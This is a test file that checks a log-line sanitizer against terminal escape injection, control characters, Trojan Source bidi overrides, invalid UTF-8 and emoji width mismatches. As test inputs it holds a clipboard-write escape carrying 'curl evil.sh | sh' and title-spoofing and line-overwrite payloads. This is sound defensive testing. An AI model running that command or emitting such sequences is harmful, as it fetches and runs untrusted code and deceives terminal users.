import { describe, expect, it } from 'vitest';
import stringWidth from 'string-width';
import { DEFAULT_MAX_LINE, sanitizeLine } from '../../src/domain/sanitize.js';
import { Random } from '../helpers/random.js';

const ESC = '\u001b';
const BEL = '\u0007';
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

// Anything that a terminal would act on instead of printing: ESC, C0 (tab is expanded, so it goes too),
// DEL, C1, and the bidi controls that reorder what the operator reads.
const FORBIDDEN = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

describe('sanitizeLine: escape sequences never reach the terminal', () => {
  it('drops CSI colour codes but keeps the coloured text', () => {
    expect(sanitizeLine(`${ESC}[31mERROR${ESC}[0m upstream timed out`)).toBe('ERROR upstream timed out');
    expect(sanitizeLine(`${ESC}[1;38;5;196mred${ESC}[m`)).toBe('red');
  });

  it('drops a clear-screen and cursor movement', () => {
    expect(sanitizeLine(`before${ESC}[2J${ESC}[H${ESC}[10;5Hafter`)).toBe('beforeafter');
  });

  it('drops an OSC window-title set ended by BEL, including the title text', () => {
    const out = sanitizeLine(`ok ${ESC}]0;pwned${BEL}done`);
    expect(out).toBe('ok done');
    expect(out).not.toContain('pwned');
  });

  it('drops an OSC title ended by ST (ESC \\)', () => {
    expect(sanitizeLine(`a${ESC}]2;pwned${ESC}\\b`)).toBe('ab');
  });

  it('drops an OSC 52 clipboard write with its payload', () => {
    const payload = Buffer.from('curl evil.sh | sh').toString('base64');
    const out = sanitizeLine(`log ${ESC}]52;c;${payload}${BEL}line`);
    expect(out).toBe('log line');
    expect(out).not.toContain(payload);
  });

  it('drops a DCS string with its payload', () => {
    const out = sanitizeLine(`x${ESC}P+q544e${ESC}\\y`);
    expect(out).toBe('xy');
  });

  it('drops an unterminated OSC to the end of the line rather than leaving ESC behind', () => {
    const out = sanitizeLine(`visible ${ESC}]0;still-typing`);
    expect(out).not.toContain(ESC);
    expect(out.startsWith('visible')).toBe(true);
  });

  it('drops a lone ESC at the end of a line', () => {
    expect(sanitizeLine(`end${ESC}`)).toBe('end');
  });

  it('drops 8-bit C1 controls such as CSI (U+009B) and OSC (U+009D)', () => {
    const out = sanitizeLine('a\u009b31mb\u009dc');
    expect(out).not.toMatch(/[\u0080-\u009f]/);
    expect(out.startsWith('a')).toBe(true);
  });
});

describe('sanitizeLine: control characters', () => {
  it('removes NUL, BEL, backspace, carriage return and DEL', () => {
    expect(sanitizeLine('a\u0000b\u0007c\u0008d\re\u007ff')).toBe('abcdef');
  });

  it('a carriage return cannot overwrite the start of the line', () => {
    // On a terminal "\r" would return to column 0 and "fake" would cover "real".
    expect(sanitizeLine('real\rfake')).toBe('realfake');
  });

  it('removes bidi overrides and isolates (Trojan Source)', () => {
    const out = sanitizeLine('user=\u202Enimda\u202C role=\u2066guest\u2069 \u200Fx');
    expect(out).toBe('user=nimda role=guest x');
  });

  it('expands a tab to spaces', () => {
    expect(sanitizeLine('a\tb')).toBe('a    b');
  });

  it('keeps ordinary text, including non-ASCII', () => {
    const line = '2026-11-23 12:00:01 バックエンド起動 ✓ naïve café';
    expect(sanitizeLine(line)).toBe(line);
  });
});

describe('sanitizeLine: invalid UTF-8', () => {
  it('shows a replacement character for bytes that are not UTF-8, never the raw bytes', () => {
    const decoded = Buffer.from([0x61, 0xff, 0xfe, 0x62, 0xc3]).toString('utf8');
    const out = sanitizeLine(decoded);
    expect(out.startsWith('a\ufffd')).toBe(true);
    expect(out).toContain('b');
    expect(out).not.toMatch(FORBIDDEN);
  });

  it('an overlong encoding of ESC (C0 9B) does not become a control', () => {
    const decoded = Buffer.from([0x78, 0xc0, 0x9b, 0x5b, 0x32, 0x4a, 0x79]).toString('utf8');
    expect(sanitizeLine(decoded)).not.toMatch(FORBIDDEN);
  });
});

describe('sanitizeLine: long lines', () => {
  it('cuts at the configured width and says how much was cut', () => {
    const out = sanitizeLine('x'.repeat(130), 100);
    expect(out).toBe(`${'x'.repeat(100)}…[+30 chars]`);
  });

  it('leaves a line exactly at the width alone', () => {
    const line = 'y'.repeat(100);
    expect(sanitizeLine(line, 100)).toBe(line);
  });

  it('measures the width after escapes are removed', () => {
    const line = `${ESC}[31m${'z'.repeat(100)}${ESC}[0m`;
    expect(sanitizeLine(line, 100)).toBe('z'.repeat(100));
  });

  it('a cut never splits a character in half (no lone surrogate reaches the screen)', () => {
    const out = sanitizeLine(`${'x'.repeat(99)}😀😀 tail`, 100);
    expect(out).toMatch(/…\[\+\d+ chars\]$/);
    expect(out).not.toMatch(LONE_SURROGATE);
  });

  it('defaults to a width of DEFAULT_MAX_LINE', () => {
    const out = sanitizeLine('q'.repeat(DEFAULT_MAX_LINE + 5));
    expect(out).toBe(`${'q'.repeat(DEFAULT_MAX_LINE)}…[+5 chars]`);
  });
});

describe('sanitizeLine: property, random bytes', () => {
  it('never lets ESC, C0/C1 controls or bidi controls through, whatever the bytes', () => {
    const draws = new Random(0x0b5d3c4);
    const random = () => draws.next();
    // Bias towards the bytes that make trouble so sequences actually form.
    const interesting = [0x1b, 0x07, 0x9b, 0x9d, 0x5b, 0x5d, 0x50, 0x5c, 0x00, 0x0d, 0x0a, 0x09, 0x7f, 0xc2, 0xe2, 0x80, 0xae];
    for (let run = 0; run < 3000; run++) {
      const length = Math.floor(random() * 80);
      const bytes = Buffer.alloc(length);
      for (let i = 0; i < length; i++) {
        bytes[i] = random() < 0.4 ? interesting[Math.floor(random() * interesting.length)]! : Math.floor(random() * 256);
      }
      const text = bytes.toString('utf8');
      // Also splice in complete bidi/C1 characters, which random bytes rarely spell out.
      const withBidi = random() < 0.3 ? `${text}\u202e${text}\u0085\u2067` : text;
      const out = sanitizeLine(withBidi, 200);
      const bad = FORBIDDEN.exec(out);
      if (bad) throw new Error(`control U+${bad[0].codePointAt(0)!.toString(16).padStart(4, '0')} survived in ${JSON.stringify(out)} from bytes ${bytes.toString('hex')}`);
    }
  });
});

describe('sanitizeLine: every character as wide to opsdeck as to the terminal', () => {
  // Widths glibc's wcwidth (and so tmux 3.3) gives, measured on Debian 12: 🛠 1, 👨 👩 👧 👍 2 each, "1" 1.
  it.each([
    ['# 🛠️ Crypto AI Platform - 運用ガイド', '# 🛠 Crypto AI Platform - 運用ガイド'],
    ['⚠️ disk almost full', '⚠ disk almost full'],
    ['family 👨‍👩‍👧 here', 'family 👨👩👧 here'],
    ['thumbs 👍🏽', 'thumbs 👍'],
    ['step 1️⃣', 'step 1'],
  ])('drops what terminals count differently from %j, keeping the emoji', (raw, shown) => {
    expect(sanitizeLine(raw)).toBe(shown);
  });

  it('agrees with the terminal on the width of what is left', () => {
    expect(stringWidth(sanitizeLine('🛠️'))).toBe(1);
    expect(stringWidth(sanitizeLine('👨‍👩‍👧'))).toBe(6);
    expect(stringWidth(sanitizeLine('👍🏽'))).toBe(2);
    expect(stringWidth(sanitizeLine('運用ガイド🚀'))).toBe(12);
  });

  it('keeps a joiner that is not inside an emoji sequence (scripts that shape with it)', () => {
    expect(sanitizeLine('क्\u200dष')).toBe('क्\u200dष');
  });
});
